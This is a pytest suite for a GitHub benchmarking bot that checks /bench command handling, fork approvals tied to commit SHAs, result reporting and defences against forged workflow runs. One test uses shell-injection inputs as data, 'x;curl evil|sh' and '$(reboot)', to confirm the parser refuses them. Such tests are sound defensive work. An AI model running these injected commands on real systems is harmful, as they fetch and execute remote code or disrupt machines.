"""`/bench`, automatic, merge and scheduled benchmarks, and their results, through the real router
on the real store with a fake GitHub that follows the real adapter's rules."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import text

from bot.core.bench import contract
from bot.core.pulls import PullInfo
from bot.core.render.comment import MARKER
from bot.service import benchmarks, chain, failures, hourly, intake, jobs
from bot.service.commands import REPLY_MARKER
from bot.service.records import BenchRequest, Repository
from bot.service.routes import ROUTER
from bot.service.services import Services
from tests.core.bench.zips import archive
from tests.core.judge.results_data import BASE_SHA, EAGLE3, HEAD_SHA, document
from tests.service import diffs
from tests.service.fakes import BOT_LOGIN, FakeGitHub, FakeGitHubFactory, FakeQueue

REPO, NUMBER = "octo/engine", 7
CONFIG = (
    diffs.BASE_CONFIG
    + """bench:
  suites:
    sglang-eagle3: {kind: sglang-eagle3, model_path: m, draft_model_path: d}
  dispatch:
    cooldown: {user: 0, pr: 0}
"""
)
NEW_HEAD = "e" * 40
NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)


@pytest.fixture
def github() -> FakeGitHub:
    return make_github()


def make_github() -> FakeGitHub:
    """One installation with a high-risk pull request, its config and the benchmark workflow."""
    fake = FakeGitHub()
    fake.heads[(REPO, NUMBER)] = HEAD_SHA
    fake.diffs[(REPO, NUMBER)] = diffs.HIGH
    fake.files[(REPO, ".github/perfbot.yml", "main")] = CONFIG
    fake.pulls[(REPO, NUMBER)] = PullInfo(
        repo=REPO,
        number=NUMBER,
        open=True,
        draft=False,
        head_sha=HEAD_SHA,
        base_sha=BASE_SHA,
        head_repo=REPO,
        author="author",
        html_url=f"https://github.com/{REPO}/pull/{NUMBER}",
    )
    fake.permissions[(REPO, "maintainer")] = "write"
    fake.workflows.add((REPO, "perfbot-bench.yml"))
    fake.branches[REPO] = ("main", "f" * 40)
    return fake


@pytest.fixture
def services(github, sqlite_store) -> Services:
    return Services(store=sqlite_store, github=FakeGitHubFactory(github), queue=FakeQueue())


def repository() -> dict:
    return {"full_name": REPO, "default_branch": "main"}


def stamp(minutes: int) -> str:
    """GitHub's timestamp ``minutes`` after the pull request was opened."""
    return (NOW + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%SZ")


def comment(
    body: str,
    login: str = "maintainer",
    comment_id: int = 501,
    user_type: str = "User",
    on_pull: bool = True,
    app: dict | None = None,
    minute: int = 1,
) -> dict:
    issue = {"number": NUMBER, **({"pull_request": {"url": "x"}} if on_pull else {})}
    return {
        "action": "created",
        "installation": {"id": 42},
        "repository": repository(),
        "issue": issue,
        "comment": {
            "id": comment_id,
            "body": body,
            "user": {"login": login, "type": user_type},
            "performed_via_github_app": app,
            "created_at": stamp(minute),
        },
    }


def pull_request(action: str = "opened", sha: str = HEAD_SHA, minute: int = 0, **pr) -> dict:
    return {
        "action": action,
        "installation": {"id": 42},
        "repository": repository(),
        "pull_request": {
            "number": NUMBER,
            "state": "open",
            "draft": False,
            "head": {"sha": sha},
            "html_url": f"https://github.com/{REPO}/pull/{NUMBER}",
            "title": "t",
            "updated_at": stamp(minute),
            **pr,
        },
    }


def workflow_run(
    github: FakeGitHub, run_id: int, conclusion: str = "success", repo: str = REPO, title: str | None = None
) -> dict:
    run = github.runs[run_id]["run"]
    return {
        "action": "completed",
        "installation": {"id": 42},
        "repository": {"full_name": repo, "default_branch": "main"},
        "workflow_run": {
            "id": run_id,
            "display_title": title or run.display_title,
            "event": "workflow_dispatch",
            "path": run.path,
            "conclusion": conclusion,
            "status": "completed",
            "run_attempt": 1,
            "html_url": run.html_url,
        },
    }


def send(services: Services, event: str, payload: dict) -> None:
    ROUTER.dispatch(event, payload, services)
    drain(services)


def look_at(services: Services, request: BenchRequest) -> None:
    """The watch's look at a stored default-branch run queued, as the run's completion queues it,
    and the chain after it run."""
    step = chain.Step(
        action=chain.LOOK,
        repo=request.repo,
        installation_id=request.installation_id,
        default_branch="main",
        subject=request.correlation_id,
    )
    chain.queue(services, step)
    drain(services)


def drain(services: Services, failures: int = 0) -> None:
    """Run the bot's own jobs that were queued (the watch's steps), as the worker would: each
    stored delivery processed once, in the order queued, those it queues after it; ``failures``:
    how many may fail."""
    queue, outcomes = services.queue, []
    while isinstance(queue, FakeQueue) and queue.jobs:
        outcomes.append(jobs.process(queue.jobs.pop(0), services, ROUTER))
    assert outcomes.count("failed") == failures, outcomes


def sticky(github: FakeGitHub) -> str:
    [body] = [c.body for c in github.threads.get((REPO, NUMBER), []) if c.body.startswith(MARKER)]
    return body


def replies(github: FakeGitHub) -> list[str]:
    return [
        c.body
        for c in github.threads.get((REPO, NUMBER), [])
        if c.author == BOT_LOGIN and not c.body.startswith(MARKER)
    ]


def reactions(github: FakeGitHub, comment_id: int = 501) -> list[str]:
    return [content for _, cid, content in github.reactions if cid == comment_id]


def upload_results(github: FakeGitHub, run_id: int, doc: dict | None = None) -> None:
    dispatched = next(d for d in github.dispatches if d["run_id"] == run_id)
    name = contract.artifact_name(dispatched["inputs"]["correlation-id"])
    github.upload_artifact(REPO, run_id, name, archive({"results.json": json.dumps(doc or document(EAGLE3))}))


# ---------------------------------------------------------------- /bench


def test_a_maintainers_bench_dispatches_once_with_the_contracts_inputs(services, github):
    send(services, "issue_comment", comment("/bench sglang-eagle3 --rounds 7"))
    [dispatched] = github.dispatches
    inputs = dispatched["inputs"]
    assert (dispatched["workflow"], dispatched["ref"]) == ("perfbot-bench.yml", "main")
    assert inputs == {
        "pr": str(NUMBER),
        "base-sha": BASE_SHA,
        "head-sha": HEAD_SHA,
        "suites": "sglang-eagle3",
        "rounds": "7",
        "max-rounds": "",
        "correlation-id": inputs["correlation-id"],
    }
    assert reactions(github) == ["eyes", "rocket"]
    [check] = github.bench_checks.values()
    assert (check.name, check.status, check.head_sha) == ("perfbot / bench", "in_progress", HEAD_SHA)
    assert check.details_url == github.runs[dispatched["run_id"]]["run"].html_url
    assert check.external_id == inputs["correlation-id"]
    body = sticky(github)
    assert "Benchmarks are running" in body and f"[workflow run]({check.details_url})" in body
    assert "Performance risk" in body, "the risk review stays above the benchmarks"


def test_the_base_is_the_pull_requests_never_a_ref_from_the_comment(services, github):
    send(services, "issue_comment", comment("/bench main"))
    assert github.dispatches == [] and reactions(github) == ["confused"]
    assert "unknown suite 'main'" in replies(github)[0]


def test_a_read_only_user_gets_one_reply_and_no_gpu_work(services, github):
    github.permissions[(REPO, "visitor")] = "read"
    send(services, "issue_comment", comment("/bench", login="visitor", comment_id=1))
    send(services, "issue_comment", comment("/bench", login="visitor", comment_id=2))
    send(services, "issue_comment", comment("/bench help", login="visitor", comment_id=3))
    assert github.dispatches == []
    assert reactions(github, 1) == ["confused"] and reactions(github, 2) == reactions(github, 3) == []
    [reply] = replies(github)
    assert "Not started:" in reply and "write access" in reply


def test_author_association_is_never_trusted(services, github):
    payload = comment("/bench", login="owner-on-paper")
    payload["comment"]["author_association"] = "OWNER"
    send(services, "issue_comment", payload)
    assert github.dispatches == []


def fork(github: FakeGitHub) -> None:
    github.pulls[(REPO, NUMBER)] = replace(
        github.pulls[(REPO, NUMBER)], head_repo="stranger/engine", author="stranger"
    )


def test_a_fork_needs_an_approval_pinned_to_the_head_its_approver_read(services, github):
    fork(github)
    send(services, "pull_request", pull_request("opened", minute=0))
    send(services, "issue_comment", comment("/bench", comment_id=1))
    assert github.dispatches == [] and "fork" in replies(github)[0]
    send(services, "issue_comment", comment("/bench approve", comment_id=2, minute=1))
    assert reactions(github, 2) == ["eyes", "+1"]
    send(services, "issue_comment", comment("/bench", comment_id=3))
    assert len(github.dispatches) == 1
    github.heads[(REPO, NUMBER)] = NEW_HEAD  # a new push revokes the approval
    send(services, "pull_request", pull_request("synchronize", NEW_HEAD, minute=5))
    send(services, "issue_comment", comment("/bench", comment_id=4, minute=6))
    assert len(github.dispatches) == 1 and reactions(github, 4) == ["confused"]


def test_a_push_between_an_approval_and_its_processing_is_not_approved(services, github):
    fork(github)
    send(services, "pull_request", pull_request("opened", minute=0))
    # The maintainer approves at minute 1 what they read; the fork pushes at minute 2, and that push
    # is processed before the approval is.
    github.heads[(REPO, NUMBER)] = NEW_HEAD
    send(services, "pull_request", pull_request("synchronize", NEW_HEAD, minute=2))
    send(services, "issue_comment", comment("/bench approve", comment_id=2, minute=1))
    assert reactions(github, 2) == ["confused"]
    assert f"/bench approve {NEW_HEAD[:12]}" in replies(github)[-1]
    assert not services.store.work.approved(REPO, NUMBER, NEW_HEAD)
    send(services, "issue_comment", comment("/bench", comment_id=3, minute=3))
    assert github.dispatches == []


def test_an_approval_of_a_head_nobody_saw_pushed_must_name_it_in_full(services, github):
    fork(github)  # opened before the bot was installed: no push is known
    send(services, "issue_comment", comment("/bench approve", comment_id=2))
    send(services, "issue_comment", comment(f"/bench approve {HEAD_SHA[:7]}", comment_id=3))
    assert reactions(github, 2) == reactions(github, 3) == ["confused"] and github.dispatches == []
    assert all(f"/bench approve {HEAD_SHA}" in reply for reply in replies(github))
    send(services, "issue_comment", comment(f"/bench approve {HEAD_SHA}", comment_id=4))
    assert reactions(github, 4) == ["eyes", "+1"]
    send(services, "issue_comment", comment("/bench", comment_id=5))
    assert len(github.dispatches) == 1


def push(services: Services, github: FakeGitHub, sha: str, minute: int) -> None:
    """The fork pushes ``sha`` at ``minute``, and perfbot processes the push."""
    github.heads[(REPO, NUMBER)] = sha
    send(services, "pull_request", pull_request("synchronize", sha, minute=minute))


def test_an_older_head_pushed_again_before_the_approval_is_processed_is_not_approved(services, github):
    """The fork pushed X, then R; the maintainer read R and approved; X is pushed again in the
    second before perfbot gets to the approval. X's first push was before the comment, but the head
    the maintainer read was R."""
    fork(github)
    unread, read = "c" * 40, HEAD_SHA
    push(services, github, unread, minute=0)
    push(services, github, read, minute=1)
    github.heads[(REPO, NUMBER)] = unread  # pushed at minute 3, not yet processed
    send(services, "issue_comment", comment("/bench approve", comment_id=2, minute=2))
    assert not services.store.work.approved(REPO, NUMBER, unread)
    assert reactions(github, 2) == ["confused"] and f"/bench approve {unread}" in replies(github)[-1]
    send(services, "pull_request", pull_request("synchronize", unread, minute=3))
    send(services, "issue_comment", comment("/bench", comment_id=3, minute=4))
    assert github.dispatches == []


def test_an_approval_naming_a_prefix_is_not_taken_by_a_commit_ground_to_share_it(services, github):
    """The maintainer approves the 7-hex prefix of the head they read; the fork pushes a commit
    ground to share that prefix in the second before perfbot gets to the approval."""
    fork(github)
    read, ground = "abcdef1" + "0" * 33, "abcdef1" + "9" * 33
    push(services, github, read, minute=0)
    github.heads[(REPO, NUMBER)] = ground  # pushed at minute 2, not yet processed
    send(services, "issue_comment", comment(f"/bench approve {read[:7]}", comment_id=2, minute=1))
    assert not services.store.work.approved(REPO, NUMBER, ground)
    assert services.store.work.approved(REPO, NUMBER, read), "the full sha of the push the prefix named"
    send(services, "pull_request", pull_request("synchronize", ground, minute=2))
    send(services, "issue_comment", comment("/bench", comment_id=3, minute=3))
    assert github.dispatches == []


def test_a_prefix_that_names_no_push_or_several_is_refused_with_the_full_sha(services, github):
    fork(github)
    first, second = "abcdef1" + "0" * 33, "abcdef1" + "9" * 33
    push(services, github, first, minute=0)
    push(services, github, second, minute=1)
    send(services, "issue_comment", comment("/bench approve abcdef1", comment_id=2, minute=2))
    send(services, "issue_comment", comment("/bench approve 1234567", comment_id=3, minute=2))
    assert reactions(github, 2) == reactions(github, 3) == ["confused"]
    ambiguous, unmatched = replies(github)[-2:]
    assert "abcdef1" in ambiguous and f"/bench approve {second}" in ambiguous
    assert "1234567" in unmatched and f"/bench approve {second}" in unmatched
    assert not services.store.work.approved(REPO, NUMBER, first)
    assert not services.store.work.approved(REPO, NUMBER, second)
    send(services, "issue_comment", comment(f"/bench approve {second}", comment_id=4, minute=3))
    assert services.store.work.approved(REPO, NUMBER, second)


def test_an_approval_in_a_review_binds_to_the_reviewed_commit(services, github):
    fork(github)
    github.heads[(REPO, NUMBER)] = NEW_HEAD  # pushed after the review was written on HEAD_SHA
    payload = {
        "action": "submitted",
        "installation": {"id": 42},
        "repository": repository(),
        "pull_request": {"number": NUMBER},
        "review": {
            "id": 78,
            "body": "/bench approve",
            "commit_id": HEAD_SHA,
            "user": {"login": "maintainer", "type": "User"},
        },
    }
    send(services, "pull_request_review", payload)
    assert services.store.work.approved(REPO, NUMBER, HEAD_SHA)
    assert not services.store.work.approved(REPO, NUMBER, NEW_HEAD)
    assert "is not approved" in replies(github)[-1]


@pytest.mark.parametrize(
    "body", ["> /bench", "```\n/bench\n```", "    /bench", "`/bench`", "please /bench now"]
)
def test_a_quoted_or_code_command_does_nothing_at_all(services, github, body):
    send(services, "issue_comment", comment(body))
    assert github.dispatches == [] and github.reactions == [] and replies(github) == []


@pytest.mark.parametrize("kind", ["bot-type", "bot-login", "app"])
def test_comments_by_bots_are_ignored_ourselves_included(services, github, kind):
    payload = {
        "bot-type": comment("/bench", login="ci", user_type="Bot"),
        "bot-login": comment("/bench", login="perfbot[bot]"),
        "app": comment("/bench", app={"id": 1, "slug": "other"}),
    }[kind]
    send(services, "issue_comment", payload)
    assert github.dispatches == [] and github.reactions == []


def test_a_comment_on_an_issue_is_ignored(services, github):
    send(services, "issue_comment", comment("/bench", on_pull=False))
    assert github.dispatches == [] and github.reactions == []


def test_a_closed_pull_request_is_answered(services, github):
    github.pulls[(REPO, NUMBER)] = replace(github.pulls[(REPO, NUMBER)], open=False)
    send(services, "issue_comment", comment("/bench"))
    assert github.dispatches == [] and "closed" in replies(github)[0]


def test_a_replayed_comment_does_nothing_again(services, github):
    send(services, "issue_comment", comment("/bench"))
    send(services, "issue_comment", comment("/bench"))
    send(services, "issue_comment", comment("/bench --rounds 0", comment_id=9))
    send(services, "issue_comment", comment("/bench --rounds 0", comment_id=9))
    assert len(github.dispatches) == 1 and len(replies(github)) == 1


def test_a_second_bench_of_the_same_head_waits_for_the_first(services, github):
    send(services, "issue_comment", comment("/bench", comment_id=1))
    send(services, "issue_comment", comment("/bench", comment_id=2))
    assert len(github.dispatches) == 1 and "already running" in replies(github)[0]


def test_the_cooldown_of_the_config_is_applied(services, github):
    github.files[(REPO, ".github/perfbot.yml", "main")] = CONFIG.replace("user: 0", "user: 600")
    send(services, "issue_comment", comment("/bench", comment_id=1))
    send(services, "issue_comment", comment("/bench cancel", comment_id=2))
    send(services, "issue_comment", comment("/bench", comment_id=3))
    assert len(github.dispatches) == 1 and "10 min" in replies(github)[0]


def test_rounds_beyond_the_cap_and_shell_metacharacters_are_refused(services, github):
    send(services, "issue_comment", comment("/bench --rounds 100000", comment_id=1))
    send(services, "issue_comment", comment("/bench x;curl evil|sh", comment_id=2))
    send(services, "issue_comment", comment("/bench $(reboot)\n/bench", comment_id=3))
    assert github.dispatches == []
    assert "allows \\(50\\)" in replies(github)[0] and "is not a suite name" in replies(github)[1]
    assert "is not a suite name" in replies(github)[2], "the first command wins"


def test_cancel_stops_the_run_and_says_so(services, github):
    send(services, "issue_comment", comment("/bench", comment_id=1))
    run_id = github.dispatches[0]["run_id"]
    send(services, "issue_comment", comment("/bench cancel", comment_id=2))
    assert github.runs[run_id]["run"].conclusion == "cancelled"
    assert reactions(github, 2) == ["eyes", "+1"]
    assert "Benchmark cancelled" in sticky(github)
    send(services, "workflow_run", workflow_run(github, run_id, "cancelled"))
    assert "Benchmark cancelled" in sticky(github)
    [check] = github.bench_checks.values()
    assert (check.status, check.conclusion) == ("completed", "cancelled")


def test_ack_is_stored_for_the_dashboard_and_help_answers(services, github):
    send(services, "issue_comment", comment("/bench ack the copy is needed for PCG", comment_id=1))
    send(services, "issue_comment", comment("/bench help", comment_id=2))
    [ack] = services.store.work.acks(REPO, NUMBER)
    assert (ack.user, ack.reason, ack.head_sha, ack.comment_id) == (
        "maintainer",
        "the copy is needed for PCG",
        HEAD_SHA,
        1,
    )
    assert "| `/bench` |" in replies(github)[0]


def test_a_review_body_can_hold_the_command(services, github):
    payload = {
        "action": "submitted",
        "installation": {"id": 42},
        "repository": repository(),
        "pull_request": {"number": NUMBER},
        "review": {"id": 77, "body": "LGTM, but\n/bench", "user": {"login": "maintainer", "type": "User"}},
    }
    send(services, "pull_request_review", payload)
    assert len(github.dispatches) == 1 and github.reactions == []


def test_comments_without_the_command_are_not_even_queued(services):
    def accept(body: str) -> intake.Outcome:
        payload = comment(body)
        return intake.accept(
            services,
            ROUTER,
            hook_id="1",
            guid=body,
            event="issue_comment",
            payload=payload,
            body=json.dumps(payload).encode(),
        )

    assert accept("LGTM") is intake.Outcome.IGNORED
    assert accept("/bench") is intake.Outcome.QUEUED


# ---------------------------------------------------------------- results


def dispatched(services, github) -> int:
    send(services, "issue_comment", comment("/bench sglang-eagle3"))
    return github.dispatches[-1]["run_id"]


def test_a_successful_run_is_judged_stored_and_shown(services, github):
    run_id = dispatched(services, github)
    upload_results(github, run_id)
    send(services, "workflow_run", workflow_run(github, run_id))
    request = services.store.benchmarks.for_pull(REPO, NUMBER)[0]
    assert (request.status, request.conclusion) == ("completed", "success")
    [result] = services.store.benchmarks.results(request.id)
    assert (result.suite, result.verdict, result.on_default_branch) == ("sglang-eagle3", "regression", False)
    body = sticky(github)
    assert "Benchmark verdict: 🔴 regression" in body and "| metric | base | head |" in body
    assert "Performance risk" in body
    [check] = github.bench_checks.values()
    assert (check.status, check.conclusion) == ("completed", "neutral")
    assert check.title.startswith("Regression: This PR makes the EAGLE-3 cycle 52% slower")


def test_a_regression_fails_the_check_where_the_config_makes_it_a_gate(services, github):
    github.files[(REPO, ".github/perfbot.yml", "main")] = CONFIG + "    gate: true\n"
    run_id = dispatched(services, github)
    upload_results(github, run_id)
    send(services, "workflow_run", workflow_run(github, run_id))
    [check] = github.bench_checks.values()
    assert check.conclusion == "failure"


@pytest.mark.parametrize("conclusion", ["failure", "cancelled", "timed_out"])
def test_a_run_that_did_not_succeed_is_reported_as_such_never_as_no_regression(services, github, conclusion):
    run_id = dispatched(services, github)
    upload_results(github, run_id, document(EAGLE3, failed={"head": 2}))
    send(services, "workflow_run", workflow_run(github, run_id, conclusion))
    body = sticky(github)
    section = body[body.index("### ⏱️ Benchmarks") :]
    assert "No verdict" in section and "regression" not in section.lower()
    assert {"failure": "failed", "cancelled": "was cancelled", "timed_out": "timed out"}[
        conclusion
    ] in section
    [check] = github.bench_checks.values()
    assert check.conclusion == "neutral" and "no verdict" in check.title


def test_a_run_without_its_artifact_says_so(services, github):
    run_id = dispatched(services, github)
    send(services, "workflow_run", workflow_run(github, run_id))
    assert "uploaded no artifact named perfbot-results-" in sticky(github)


def test_a_replayed_completion_is_processed_once(services, github):
    run_id = dispatched(services, github)
    upload_results(github, run_id)
    send(services, "workflow_run", workflow_run(github, run_id))
    before = (len(github.bench_checks), sticky(github))
    github.archives.clear()  # a second processing would now fail to find the artifact
    send(services, "workflow_run", workflow_run(github, run_id))
    assert (len(github.bench_checks), sticky(github)) == before
    assert len(services.store.benchmarks.results(services.store.benchmarks.for_pull(REPO, NUMBER)[0].id)) == 1


def test_runs_of_unknown_ids_other_repositories_or_other_runs_are_ignored(services, github):
    run_id = dispatched(services, github)
    upload_results(github, run_id)
    checks = dict(github.bench_checks)
    send(services, "workflow_run", workflow_run(github, run_id, title="perfbot bench pb-nobody-asked"))
    send(services, "workflow_run", workflow_run(github, run_id, repo="mallory/engine"))
    impostor = workflow_run(github, run_id)
    impostor["workflow_run"]["id"] = run_id + 1000
    send(services, "workflow_run", impostor)
    pushed = workflow_run(github, run_id)
    pushed["workflow_run"]["event"] = "pull_request"
    send(services, "workflow_run", pushed)
    assert (
        github.bench_checks == checks
        and services.store.benchmarks.for_pull(REPO, NUMBER)[0].status == "running"
    )


def test_a_results_file_for_other_commits_is_not_a_verdict(services, github):
    run_id = dispatched(services, github)
    other = document(EAGLE3)
    other["head"]["sha"] = "c" * 40
    upload_results(github, run_id, other)
    send(services, "workflow_run", workflow_run(github, run_id))
    assert services.store.benchmarks.for_pull(REPO, NUMBER)[0].status == "failed"
    assert "not the requested" in sticky(github)


def test_github_refusing_the_dispatch_is_answered_on_the_pull_request(services, github):
    github.workflows.clear()
    send(services, "issue_comment", comment("/bench"))
    assert reactions(github) == ["eyes", "confused"]
    assert "perfbot could not start the benchmark" in sticky(github) and "404" in sticky(github)
    assert services.store.benchmarks.for_pull(REPO, NUMBER)[0].status == "failed"


# ---------------------------------------------------------------- runs nobody asked for


def test_a_risky_push_by_a_trusted_author_is_benchmarked_and_a_new_push_supersedes_it(services, github):
    github.permissions[(REPO, "author")] = "write"
    send(services, "pull_request", pull_request("opened"))
    [first] = github.dispatches
    assert services.store.benchmarks.for_pull(REPO, NUMBER)[0].trigger == "auto"
    github.heads[(REPO, NUMBER)] = NEW_HEAD
    send(services, "pull_request", pull_request("synchronize", NEW_HEAD))
    assert github.runs[first["run_id"]]["run"].conclusion == "cancelled"
    assert len(github.dispatches) == 2 and github.dispatches[1]["inputs"]["head-sha"] == NEW_HEAD
    old = next(r for r in services.store.benchmarks.for_pull(REPO, NUMBER) if r.head_sha == HEAD_SHA)
    assert old.status == "superseded"
    assert github.bench_checks[old.check_run_id].conclusion == "cancelled"
    send(services, "pull_request", pull_request("synchronize", NEW_HEAD))  # the same body again
    assert len(github.dispatches) == 2


def test_an_untrusted_or_low_risk_push_is_not_benchmarked(services, github):
    send(services, "pull_request", pull_request("opened"))  # the author may only read
    github.permissions[(REPO, "author")] = "write"
    github.diffs[(REPO, NUMBER)] = diffs.MEDIUM
    send(services, "pull_request", pull_request("reopened"))
    assert github.dispatches == []


def test_a_push_supersedes_a_bench_even_when_the_new_head_is_not_benchmarked(services, github):
    send(services, "issue_comment", comment("/bench"))
    github.heads[(REPO, NUMBER)] = NEW_HEAD
    github.diffs[(REPO, NUMBER)] = diffs.COLD
    send(services, "pull_request", pull_request("synchronize", NEW_HEAD))
    assert services.store.benchmarks.for_pull(REPO, NUMBER)[0].status == "superseded"
    assert "Benchmark superseded" in sticky(github)


def test_closing_cancels_and_a_risky_merge_benchmarks_its_merge_commit(services, github):
    github.permissions[(REPO, "author")] = "write"
    send(services, "pull_request", pull_request("opened"))
    merge_sha, parent = "d" * 40, "0" * 40
    github.parents[(REPO, merge_sha)] = parent
    send(
        services,
        "pull_request",
        pull_request(
            "closed",
            merged=True,
            merge_commit_sha=merge_sha,
            state="closed",
            merged_at="2026-12-01T10:00:00Z",
        ),
    )
    assert services.store.benchmarks.for_pull(REPO, NUMBER)[0].status == "cancelled"
    [merge_run] = services.store.benchmarks.for_pull(REPO, None)
    assert (merge_run.trigger, merge_run.base_sha, merge_run.head_sha) == ("merge", parent, merge_sha)
    assert github.dispatches[-1]["inputs"]["pr"] == ""


def test_a_merge_run_lands_in_the_history(services, github):
    merge_sha = HEAD_SHA
    github.parents[(REPO, merge_sha)] = BASE_SHA
    github.permissions[(REPO, "author")] = "read"
    send(services, "pull_request", pull_request("opened"))  # reviewed: high
    send(
        services,
        "pull_request",
        pull_request(
            "closed",
            merged=True,
            merge_commit_sha=merge_sha,
            state="closed",
            merged_at="2026-12-01T10:00:00Z",
        ),
    )
    run_id = github.dispatches[-1]["run_id"]
    upload_results(github, run_id)
    send(services, "workflow_run", workflow_run(github, run_id))
    [request] = [r for r in services.store.benchmarks.for_pull(REPO, None) if r.trigger == "merge"]
    [result] = services.store.benchmarks.results(request.id)
    assert result.on_default_branch and "This commit makes" in json.loads(result.comparison)["headline"]
    with services.store.engine.connect() as connection:
        points = connection.execute(text("select metric, sha from metric_points")).fetchall()
    assert {metric for metric, _ in points} == set(EAGLE3) and {sha for _, sha in points} == {HEAD_SHA}


def test_the_schedule_benchmarks_the_default_branch_once_per_slot(services, github):
    github.files[(REPO, ".github/perfbot.yml", "main")] = (
        CONFIG + "    schedule: daily\n    schedule_hour: 3\n"
    )
    github.parents[(REPO, "f" * 40)] = "0" * 40
    services.store.installations.replace(42, [Repository(1, REPO, 42)])
    services.now = lambda: NOW
    assert hourly.sweep(services) == 1
    assert hourly.sweep(services) == 0, "one run per slot"
    services.now = lambda: NOW + timedelta(days=1)
    assert hourly.sweep(services) == 1
    assert [d["inputs"]["head-sha"] for d in github.dispatches] == ["f" * 40, "f" * 40]
    assert {r.trigger for r in services.store.benchmarks.for_pull(REPO, None)} == {"schedule"}


# ---------------------------------------------------------------- deliveries that fail


def test_a_delivery_that_fails_its_last_attempt_leaves_a_note_on_the_pull_request(
    services, github, monkeypatch
):
    payload = comment("/bench")
    intake.accept(
        services,
        ROUTER,
        hook_id="1",
        guid="g",
        event="issue_comment",
        payload=payload,
        body=json.dumps(payload).encode(),
    )

    def broken(repo, login):
        raise RuntimeError("GitHub said 502")

    monkeypatch.setattr(github, "permission", broken)
    clock = [datetime.now(UTC)]
    services.now = lambda: clock[0]
    for _ in range(jobs.MAX_ATTEMPTS - 1):
        with pytest.raises(failures.RetryLater):  # a bug: retried after a backoff, its traceback logged once
            jobs.process(1, services, ROUTER)
        assert replies(github) == [], "no note while retries remain"
        clock[0] += timedelta(minutes=10)
    assert jobs.process(1, services, ROUTER) == "failed"
    [note] = replies(github)
    assert "could not process a `issue_comment` event" in note and "RuntimeError" in note


def bench_that_fails_for_good(services: Services, github: FakeGitHub, monkeypatch, how: str) -> None:
    """A maintainer's `/bench` (comment 501) whose delivery fails for good after its request was
    recorded: ``permanent``: GitHub says the repository is gone when perfbot reacts to the comment
    (the request is still requested); ``attempts``: every dispatch fails, `jobs.MAX_ATTEMPTS` times
    (the request is dispatching). GitHub works again afterwards."""
    payload = comment("/bench")
    intake.accept(
        services,
        ROUTER,
        hook_id="1",
        guid="g-501",
        event="issue_comment",
        payload=payload,
        body=json.dumps(payload).encode(),
    )
    [delivery_id] = services.queue.jobs[-1:]
    clock = [datetime.now(UTC)]
    services.now = lambda: clock[0]
    monkeypatch.setattr(benchmarks, "FIND_WAIT_S", 0)
    with monkeypatch.context() as broken:
        if how == "permanent":

            def gone(repo, comment_id, content):
                raise failures.Gone("404 the repository is gone")

            broken.setattr(github, "react", gone)
        else:

            def refused(repo, workflow, ref, inputs):
                raise failures.Transient("GitHub said 502")

            broken.setattr(github, "dispatch", refused)
            for _ in range(jobs.MAX_ATTEMPTS - 1):
                with pytest.raises(failures.RetryLater):
                    jobs.process(delivery_id, services, ROUTER)
                clock[0] += timedelta(minutes=10)
        assert jobs.process(delivery_id, services, ROUTER) == "failed"
    clock[0] += timedelta(minutes=1)
    assert github.dispatches == []


@pytest.mark.parametrize("how", ["permanent", "attempts"])
def test_a_bench_whose_delivery_failed_for_good_does_not_block_the_next_one(
    services, github, monkeypatch, how
):
    bench_that_fails_for_good(services, github, monkeypatch, how)
    [request] = services.store.benchmarks.for_pull(REPO, NUMBER)
    assert request.status == "failed" and benchmarks.active(services, REPO, NUMBER) == []
    send(services, "issue_comment", comment("/bench", comment_id=502))
    assert len(github.dispatches) == 1 and reactions(github, 502) == ["eyes", "rocket"]


@pytest.mark.parametrize("how", ["permanent", "attempts"])
def test_a_bench_whose_delivery_failed_for_good_is_said_on_the_pull_request(
    services, github, monkeypatch, how
):
    bench_that_fails_for_good(services, github, monkeypatch, how)
    [note] = replies(github)
    assert "could not be started" in note and "`/bench`" in note
    assert note.startswith(REPLY_MARKER), "the note is never read as a command"


def test_the_cooldowns_do_not_count_a_bench_that_never_dispatched(services, github, monkeypatch):
    github.files[(REPO, ".github/perfbot.yml", "main")] = CONFIG.replace(
        "user: 0, pr: 0", "user: 600, pr: 600"
    )
    bench_that_fails_for_good(services, github, monkeypatch, "permanent")
    send(services, "issue_comment", comment("/bench cancel", comment_id=502))
    send(services, "issue_comment", comment("/bench", comment_id=503))
    assert len(github.dispatches) == 1 and reactions(github, 503) == ["eyes", "rocket"]
    send(services, "issue_comment", comment("/bench cancel", comment_id=504))
    send(services, "issue_comment", comment("/bench", comment_id=505))  # the one that ran counts
    assert len(github.dispatches) == 1 and "10 min" in replies(github)[-1]


# ---------------------------------------------------------------- the bot never answers itself


def test_in_token_mode_the_bots_own_replies_are_never_commands(services, github):
    """The token's user has write access and is no Bot: its refusal of a typo must not start a loop."""
    github.app_mode, github.login = False, "perf-user"
    github.permissions[(REPO, "perf-user")] = "write"
    send(services, "issue_comment", comment("/bench --round 5", comment_id=1))
    [reply] = replies_by(github, "perf-user")
    for turn in range(2, 6):  # GitHub sends the bot's own reply back as a new comment
        posted = github.threads[(REPO, NUMBER)][-1]
        send(services, "issue_comment", comment(posted.body, login="perf-user", comment_id=100 + turn))
    assert replies_by(github, "perf-user") == [reply] and reactions(github, 102) == []


def test_a_reply_carrying_the_bots_marker_is_not_a_command_whoever_posts_it(services, github):
    send(services, "issue_comment", comment("/bench --round 5", comment_id=1))
    [reply] = replies(github)
    send(services, "issue_comment", comment(reply, login="maintainer", comment_id=2))
    assert reactions(github, 2) == [] and len(replies(github)) == 1


def replies_by(github: FakeGitHub, login: str) -> list[str]:
    return [c.body for c in github.threads.get((REPO, NUMBER), []) if c.author == login]


def test_a_run_of_another_workflow_with_the_requests_name_is_not_its_run(services, github, monkeypatch):
    """When the dispatch could not name its run, the run's name alone must not pick it: a run of
    another workflow file can carry the same name."""
    github.run_details = False
    monkeypatch.setattr(benchmarks, "FIND_WAIT_S", 0)
    send(services, "issue_comment", comment("/bench sglang-eagle3"))
    [request] = services.store.benchmarks.for_pull(REPO, NUMBER)
    assert request.run_id is None
    run_id = github.dispatches[0]["run_id"]
    forged = workflow_run(github, run_id)
    forged["workflow_run"].update(id=run_id + 500, path=".github/workflows/anything.yml")
    upload_results(github, run_id)
    github.archives[(REPO, run_id + 500)] = github.archives[(REPO, run_id)]
    for action in ("in_progress", "completed"):
        send(services, "workflow_run", {**forged, "action": action})
    stored = services.store.benchmarks.get(request.correlation_id)
    assert (stored.status, stored.run_id) == ("running", None)
